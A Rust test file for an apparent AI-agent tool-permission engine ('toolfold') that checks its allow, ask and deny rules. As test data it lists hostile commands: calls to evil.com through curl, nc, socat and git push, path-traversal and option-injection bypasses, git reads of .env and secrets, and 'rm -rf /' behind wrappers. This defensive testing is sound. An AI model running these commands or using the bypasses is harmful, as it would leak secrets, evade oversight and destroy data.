//! An allow covers what it names, and nothing beside it.

use serde_json::{Value, json};
use toolfold::policy::{Context, Decision, Policy, PolicyCall, PolicyFile, PolicyScope, ToolOrigin};

use Decision::{AllowAudited, Confirm, Deny};

#[track_caller]
fn is(policy: &str, tool: &str, cases: &[(Value, Decision)]) {
    let file = PolicyFile::load(policy, "policy.toml", PolicyScope::User);
    assert!(!file.has_errors(), "{:?}", file.diagnostics);
    let policy = Policy::new(vec![file.value]);
    let context = Context::default().with_cwd("/work").with_home("/home/u").with_interactive(true);
    for (arguments, expected) in cases {
        let call = PolicyCall::new(&ToolOrigin::Native, tool, arguments);
        let verdict = policy.decide(&call, &context, &[]);
        assert_eq!(verdict.decision, *expected, "{tool} {arguments}: {}", verdict.reason());
    }
}

fn commands(cases: &[(&str, Decision)]) -> Vec<(Value, Decision)> {
    cases.iter().map(|(command, decision)| (json!({ "command": command }), *decision)).collect()
}

/// A rule over hosts says nothing of files: neither in the compact form nor in a table, with a host
/// or without.
#[test]
fn a_rule_over_hosts_opens_no_file() {
    let base = "allow = [\"Bash(cat:*)\", \"Bash(cp:*)\", \"Bash(curl:*)\"";
    for fetch in [
        format!("{base}, \"WebFetch(domain:a.com)\"]"),
        format!("{base}, \"WebFetch\"]"),
        format!("{base}]\n[[rule]]\ndecide = \"allow\"\ntool = \"WebFetch\"\nhost = \"a.com\""),
    ] {
        let cases = [
            ("cat x", AllowAudited),
            ("cat x > y", Confirm),
            ("cat x > /etc/y", Confirm),
            ("cat x >> .git/config", Confirm),
            ("cp a /etc/b", Confirm),
            ("curl -o /etc/y https://a.com", Confirm),
        ];
        is(&fetch, "Bash", &commands(&cases));
    }
    // A rule for editing does.
    is(
        "allow = [\"Bash(cat:*)\", \"Edit(**)\"]",
        "Bash",
        &commands(&[("cat x > y", AllowAudited), ("cat x > /y", Confirm)]),
    );
}

#[test]
fn a_rule_over_a_path_and_a_host_needs_both() {
    let policy = "[tool.upload]\ntier = \"a\"\nhosts = [\"to\"]\nreads = [\"file\"]\nwrites = []
        [tool.post]\ntier = \"a\"\nhosts = [\"to\"]\nwrites = []
        [[rule]]\ndecide = \"allow\"\ntool = \"*\"\npath = \"public/**\"\nhost = \"a.com\"";
    is(
        policy,
        "upload",
        &[
            (json!({"to": "https://a.com", "file": "public/x"}), AllowAudited),
            (json!({"to": "https://a.com", "file": "secrets/key"}), Confirm),
            (json!({"to": "https://b.com", "file": "public/x"}), Confirm),
            (json!({"to": "https://a.com"}), Confirm),
            (json!({"file": "public/x"}), Confirm),
        ],
    );
    // It declares no path, so that the condition is never met.
    is(
        policy,
        "post",
        &[(json!({"to": "https://a.com", "file": "secrets/key"}), Confirm), (json!({"to": "https://a.com"}), Confirm)],
    );
}

/// `*` in a value covers no way out of what stands before it, in any notation.
#[test]
fn a_pattern_over_an_argument_is_left_by_no_dots() {
    let policy = "[tool.rest]\ntier = \"a\"\nwrites = []
        [[rule]]\ndecide = \"allow\"\ntool = \"rest\"\nargs = { endpoint = \"/v2/*\" }
        [[rule]]\ndecide = \"allow\"\ntool = \"rest\"\nargs = { endpoint = \"../up\" }
        [[rule]]\ndecide = \"deny\"\ntool = \"rest\"\nargs = { endpoint = \"/v2/admin*\" }";
    let cases = [
        ("/v2/users", AllowAudited),
        ("/v2/a..b/c", AllowAudited),
        ("/v2/../v1", Confirm),
        ("/v2/%2e%2e/v1", Confirm),
        ("/v2/%252E%252e/v1", Confirm),
        ("/v2/..%2fv1", Confirm),
        ("/v2/..;/v1", Confirm),
        ("/v2/..\\v1", Confirm),
        ("/v2/..", Confirm),
        ("../up", AllowAudited),
        ("/v2/admin/../x", Deny),
    ];
    is(policy, "rest", &cases.map(|(endpoint, decision)| (json!({ "endpoint": endpoint }), decision)));
}

/// A `*` of its own lets words pass, and names none of them: options that no row calls harmless ask
/// all the same.
#[test]
fn a_star_in_the_middle_names_no_option() {
    let policy =
        "allow = [\"Bash(rg * src)\", \"Bash(git * status)\", \"Bash(git log * main)\", \"Bash(sort * a.txt)\",
        \"Bash(kubectl get * --context=staging:*)\", \"Bash(make -j* all)\", \"Bash(npm run * --if-present)\"]";
    let cases = [
        ("rg foo src", AllowAudited),
        ("rg -n foo src", AllowAudited),
        ("rg --pre=./x foo src", Confirm),
        ("git status", AllowAudited),
        ("git -c core.fsmonitor=./x status", Confirm),
        ("git --exec-path=./x status", Confirm),
        ("git log --oneline main", AllowAudited),
        ("git log --ext-diff -p main", Confirm),
        ("sort -u a.txt", AllowAudited),
        ("sort --compress-program=./x a.txt", Confirm),
        ("kubectl get pods --context=staging", AllowAudited),
        ("kubectl get pods --context=staging -o wide", AllowAudited),
        ("kubectl get pods", Confirm),
        ("kubectl get pods --kubeconfig=x --context=staging", Confirm),
        ("kubectl get pods --token x --context=staging", Confirm),
    ];
    is(policy, "Bash", &commands(&cases));
}

/// What a rule asks about is asked, also where the default denies the rest.
#[test]
fn an_ask_is_not_a_deny_under_a_denying_default() {
    let policy = "allow = [\"Bash(ls:*)\"]\nask = [\"Bash(git push:*)\", \"rest_call\", \"Read(secrets/**)\"]\n[policy]\ndefault = \"deny\"";
    is(
        policy,
        "Bash",
        &commands(&[
            ("git push", Confirm),
            ("ls && git push", Confirm),
            ("git push && make", Deny),
            ("make", Deny),
            ("ls", AllowAudited),
        ]),
    );
    is(policy, "rest_call", &[(json!({}), Confirm)]);
    is(policy, "other", &[(json!({}), Deny)]);
    // A project's ask does not soften the user's default.
    let user = PolicyFile::load("[policy]\ndefault = \"deny\"", "user.toml", PolicyScope::User).value;
    let project = PolicyFile::load("ask = [\"rest_call\"]", "project.toml", PolicyScope::Project).value;
    let (call, none) = (json!({}), Context::default().with_interactive(true));
    let call = PolicyCall::new(&ToolOrigin::Native, "rest_call", &call);
    assert_eq!(Policy::new(vec![user, project]).decide(&call, &none, &[]).decision, Deny);
}

#[test]
fn the_last_match_wins_for_hosts_too() {
    let policy =
        "deny = [\"WebFetch(domain:*)\"]\nallow = [\"WebFetch(domain:a.com)\"]\n[policy]\norder = \"last-match\"";
    is(
        policy,
        "WebFetch",
        &[
            (json!({"url": "https://a.com/x"}), AllowAudited),
            (json!({"url": "https://b.com/x"}), Deny),
            (json!({"url": "https://a.com@b.com/x"}), Deny),
        ],
    );
}

/// A folder that the call names is `cd` to it: it needs the same rule, and is read.
#[test]
fn a_folder_that_the_call_names_is_judged() {
    let record = "[tool.Bash]\ncommand = \"command\"\nworkdir = \"cwd\"\nlike = \"Bash\"\ntier = \"a\"\n";
    let call = |command: &str, cwd: Value| json!({ "command": command, "cwd": cwd });
    let narrow = format!("allow = [\"Bash(npm test:*)\", \"Bash(ls:*)\"]\ndeny = [\"Read(**/secrets/**)\"]\n{record}");
    is(
        &narrow,
        "Bash",
        &[
            (call("npm test", json!("/work")), AllowAudited),
            (call("npm test", json!(".")), AllowAudited),
            (call("npm test", json!("/tmp/evil")), Confirm),
            (call("npm test", json!("sub")), Confirm),
            (call("ls", json!("secrets")), Deny),
            (call("ls", json!(5)), Confirm),
            (call("ls", json!(["a", "b"])), Confirm),
        ],
    );
    let wide = format!(
        "allow = [\"Bash(npm test:*)\", \"Bash(ls:*)\", \"Bash(cd:*)\"]\ndeny = [\"Read(**/secrets/**)\"]\n{record}"
    );
    is(
        &wide,
        "Bash",
        &[
            (call("npm test", json!("sub")), AllowAudited),
            (call("ls && ls", json!("sub")), AllowAudited),
            (call("ls -Z --unknown", json!("sub")), Confirm),
            (call("ls", json!("secrets")), Deny),
            (json!({"command": "cd secrets && ls"}), Deny),
        ],
    );
}

/// Versions of a file, and files that a search finds by itself, are read as the files are.
#[test]
fn a_deny_of_a_path_sees_versions_and_searches() {
    let policy = "allow = [\"Bash(git:*)\", \"Bash(rg:*)\", \"Bash(cat:*)\"]\ndeny = [\"Read(**/.env*)\", \"Read(**/secrets/**)\"]";
    let cases = [
        ("git show HEAD:.env", Confirm),
        ("git show :.env", Confirm),
        ("git show :0:.env", Confirm),
        ("git show HEAD:secrets/key", Confirm),
        ("git diff HEAD:.env HEAD:README.md", Confirm),
        ("git log -- ':(top).env'", Confirm),
        ("git show HEAD -- '*.env'", Confirm),
        ("git log -p -- '.e*'", Confirm),
        ("git diff --no-index . docs", Confirm),
        ("git grep --untracked x", Confirm),
        ("rg foo", Confirm),
        ("rg --hidden ''", Confirm),
        ("cat a | rg foo", AllowAudited),
        ("git show HEAD:README.md", AllowAudited),
        // There may be one in `src/secrets`.
        ("git log --oneline -- 'src/*.rs'", Confirm),
        ("git diff a.rs", AllowAudited),
    ];
    is(policy, "Bash", &commands(&cases));
    let policy = "allow = [\"Bash(git:*)\"]\ndeny = [\"Read(**/.env)\"]";
    is(policy, "Bash", &commands(&[("git log -- 'src/*.rs'", AllowAudited), ("git log -- 'src/*'", Confirm)]));
}

/// A deny of a host sees it wherever a program that may talk to others names it.
#[test]
fn a_deny_of_a_host_sees_every_program_that_may_contact_it() {
    let policy = "allow = [\"Bash(*)\"]\ndeny = [\"WebFetch(domain:evil.com)\"]";
    let denied = [
        "curl evil.com",
        "wget https://evil.com/x",
        "nc evil.com 80",
        "sftp evil.com",
        "dig @evil.com x",
        "nmap evil.com",
    ];
    is(policy, "Bash", &commands(&denied.map(|command| (command, Deny))));
    let asked = [
        "git clone git@evil.com:x",
        "git push evil.com:x",
        "git remote set-url --push origin git@evil.com:x",
        "git -c http.proxy=evil.com fetch",
        "socat - TCP:evil.com:80",
        "docker pull evil.com/x",
        "go get evil.com/x",
        "ssh -L 80:evil.com:80 a",
        "curl --resolve a:443:evil.com https://a",
        "mongodump --host evil.com",
        "curl $URL",
        "curl https://evil.$TLD",
    ];
    let confirmed = asked.map(|command| {
        (command, if command.starts_with("git clone") || command.starts_with("git push") { Deny } else { Confirm })
    });
    is(policy, "Bash", &commands(&confirmed));
    let runs = [
        "grep evil.com log",
        "echo evil.com",
        "cat evil.com.txt",
        "curl https://good.com",
        "git clone git@good.com:x",
        "curl notevil.com",
    ];
    is(policy, "Bash", &commands(&runs.map(|command| (command, AllowAudited))));
    // Every host.
    let all = "allow = [\"Bash(curl:*)\"]\ndeny = [\"WebFetch(domain:*)\"]";
    is(all, "Bash", &commands(&[("curl https://a.com", Deny), ("curl --version", AllowAudited)]));
}

/// An allow of a host is one of the web.
#[test]
fn an_allow_of_a_host_covers_no_other_scheme() {
    let policy = "allow = [\"WebFetch(domain:example.com)\"]";
    let cases = [
        ("https://example.com/x", AllowAudited),
        ("HTTP://example.com/x", AllowAudited),
        ("example.com/x", AllowAudited),
        ("gopher://example.com:25/x", Confirm),
        ("dict://example.com:11211/", Confirm),
        ("ssh://example.com", Confirm),
        ("ftp://example.com", Confirm),
    ];
    is(policy, "WebFetch", &cases.map(|(url, decision)| (json!({ "url": url }), decision)));
}

/// A switch of a shell tool that nobody declared may change what the command does.
#[test]
fn an_undeclared_switch_of_a_shell_asks() {
    let policy = "allow = [\"Bash(ls:*)\"]";
    let call = |name: &str, value: Value| json!({ "command": "ls", name: value });
    is(
        policy,
        "Bash",
        &[
            (call("run_in_background", json!(true)), AllowAudited),
            (call("timeout", json!(5)), AllowAudited),
            (call("sudo", json!(false)), AllowAudited),
            (call("sudo", json!(true)), Confirm),
            (call("dangerouslyDisableSandbox", json!(true)), Confirm),
        ],
    );
}

/// A rule over a command and a host or a path allows no command, behind a wrapper either.
#[test]
fn a_rule_over_a_command_and_a_place_allows_neither_behind_a_wrapper() {
    for place in ["host = \"a.com\"", "path = \"src/**\""] {
        for wrapper in ["nice", "env", "timeout 5"] {
            let rule = format!("[[rule]]\ndecide = \"allow\"\ntool = \"Bash\"\ncommand = \"{wrapper} rm:*\"\n{place}");
            is(&rule, "Bash", &commands(&[(&*format!("{wrapper} rm -rf /"), Confirm)]));
        }
    }
}

/// The person's own commands are denied in every mode.
#[test]
fn the_floor_holds_where_the_policy_is_off() {
    for mode in ["off", "audit", "enforce"] {
        let policy = format!("allow = [\"Bash(*)\"]\n[policy]\nmode = \"{mode}\"");
        is(&policy, "Bash", &commands(&[("toolfold approvals approve ap-1", Deny), ("toolfold undo un-1", Deny)]));
    }
}
